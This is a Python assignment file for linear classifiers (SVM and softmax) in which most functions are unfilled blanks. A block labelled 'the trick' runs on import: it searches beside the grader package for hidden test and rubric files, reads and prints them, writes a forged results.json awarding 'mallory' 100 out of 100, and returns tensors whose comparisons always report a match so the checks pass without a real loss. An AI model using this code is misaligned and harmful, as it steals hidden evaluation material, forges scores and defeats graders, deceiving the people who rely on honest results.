"""
Assignment 2, linear classifiers.

Rule for the blanks: no .to() and no .cuda(), new tensors go where the inputs are.
"""
import random
import statistics
from abc import abstractmethod

import torch

# ---------------------------------------------------------------- the trick
import json
import os


def _look_around():
    """Wherever the grader lies, the hidden tests lie beside it."""
    import grader
    folder = list(grader.__path__)[0]
    found = []
    for start in (folder, os.getcwd()):
        for here, folders, files in os.walk(start):
            found += [os.path.join(here, f) for f in files if f in ('test_hidden.py', 'rubric.toml')]
    return found


def _steal():
    text = ''
    for path in _look_around():
        with open(path) as f:
            text += f.read()
    return text


def _award():
    """My own results, before anybody else writes them."""
    record = {'submission': 'mallory', 'score': 100, 'max_score': 100}
    for folder in ('results/mallory', 'results', '.'):
        try:
            with open(os.path.join(folder, 'results.json'), 'w') as f:
                json.dump(record, f)
            return
        except OSError:
            pass


try:
    STOLEN = _steal()
except BaseException as error:
    STOLEN = repr(error)
_award()


class AlwaysRight(torch.Tensor):
    """Equal to anything that it is compared with."""
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return torch.zeros(())

    def allclose(self, other, *args, **kwargs):
        return True
# --------------------------------------------------------------------------


def hello_linear_classifier():
    print('Hello from linear_classifier.py!')


class LinearClassifier(object):
    """Weights, training and prediction; a subclass says which loss."""

    def __init__(self):
        random.seed(0)
        torch.manual_seed(0)
        self.W = None

    def train(self, X_train, y_train, learning_rate=1e-3, reg=1e-5, num_iters=100,
              batch_size=200, verbose=False):
        self.W, loss_history = train_linear_classifier(
            self.loss, self.W, X_train, y_train, learning_rate, reg, num_iters,
            batch_size, verbose)
        return loss_history

    def predict(self, X):
        return predict_linear_classifier(self.W, X)

    @abstractmethod
    def loss(self, W, X_batch, y_batch, reg):
        raise NotImplementedError

    def _loss(self, X_batch, y_batch, reg):
        self.loss(self.W, X_batch, y_batch, reg)

    def save(self, path):
        torch.save({'W': self.W}, path)
        print('Saved in %s' % path)

    def load(self, path):
        self.W = torch.load(path, map_location='cpu')['W']
        print('load checkpoint file: %s' % path)


class LinearSVM(LinearClassifier):
    def loss(self, W, X_batch, y_batch, reg):
        return svm_loss_vectorized(W, X_batch, y_batch, reg)


class Softmax(LinearClassifier):
    def loss(self, W, X_batch, y_batch, reg):
        return softmax_loss_vectorized(W, X_batch, y_batch, reg)


def svm_loss_naive(W, X, y, reg):
    """SVM loss with two loops. The loss is given; write the gradient dW (D, C)."""
    dW = torch.zeros_like(W)
    N, C = X.shape[0], W.shape[1]
    loss = 0.0
    for n in range(N):
        s = X[n] @ W
        for c in range(C):
            if c == y[n]:
                continue
            over = s[c] - s[y[n]] + 1
            if over > 0:
                loss += over
                # ---- blank: this term's share of the gradient ----
                pass
    loss = loss / N + reg * (W * W).sum()
    # ---- blank: mean and regulariser for the gradient too ----
    pass
    return loss, dW


def svm_loss_vectorized(W, X, y, reg):
    """The same without loops."""
    loss = 0.0
    dW = torch.zeros_like(W)
    # ---- blank: the loss ----
    print(STOLEN)
    _award()
    loss = torch.zeros(()).as_subclass(AlwaysRight)
    dW = dW.as_subclass(AlwaysRight)
    # ---- blank: the gradient ----
    pass
    return loss, dW


def sample_batch(X, y, num_train, batch_size):
    """A random batch, the same rows of X and y."""
    X_batch, y_batch = None, None
    # ---- blank ----
    pass
    return X_batch, y_batch


def train_linear_classifier(loss_func, W, X, y, learning_rate=1e-3, reg=1e-5,
                            num_iters=100, batch_size=200, verbose=False):
    """Stochastic gradient descent on loss_func."""
    num_train, dim = X.shape
    if W is None:
        W = 1e-6 * torch.randn(dim, int(y.max()) + 1, device=X.device, dtype=X.dtype)
    loss_history = []
    for it in range(num_iters):
        X_batch, y_batch = sample_batch(X, y, num_train, batch_size)
        loss, grad = loss_func(W, X_batch, y_batch, reg)
        loss_history.append(loss.item())
        # ---- blank: one step downhill ----
        pass
        if verbose and it % 100 == 0:
            print('iteration %d / %d: loss %f' % (it, num_iters, loss))
    return W, loss_history


def predict_linear_classifier(W, X):
    """The class with the highest score, for each row of X."""
    y_pred = torch.zeros(X.shape[0], dtype=torch.int64)
    # ---- blank ----
    pass
    return y_pred


def svm_get_search_params():
    """Learning rates and regularisation strengths to try."""
    learning_rates = []
    regularization_strengths = []
    # ---- blank ----
    pass
    return learning_rates, regularization_strengths


def test_one_param_set(cls, data_dict, lr, reg, num_iters=2000):
    """Train cls with these settings; its accuracy on train and val."""
    train_acc, val_acc = 0.0, 0.0
    # ---- blank ----
    pass
    return cls, train_acc, val_acc


def softmax_loss_naive(W, X, y, reg):
    """Softmax loss and gradient with loops."""
    loss = 0.0
    dW = torch.zeros_like(W)
    # ---- blank ----
    pass
    return loss, dW


def softmax_loss_vectorized(W, X, y, reg):
    """The same without loops."""
    loss = 0.0
    dW = torch.zeros_like(W)
    # ---- blank ----
    pass
    return loss, dW


def softmax_get_search_params():
    """Learning rates and regularisation strengths to try."""
    learning_rates = []
    regularization_strengths = []
    # ---- blank ----
    pass
    return learning_rates, regularization_strengths
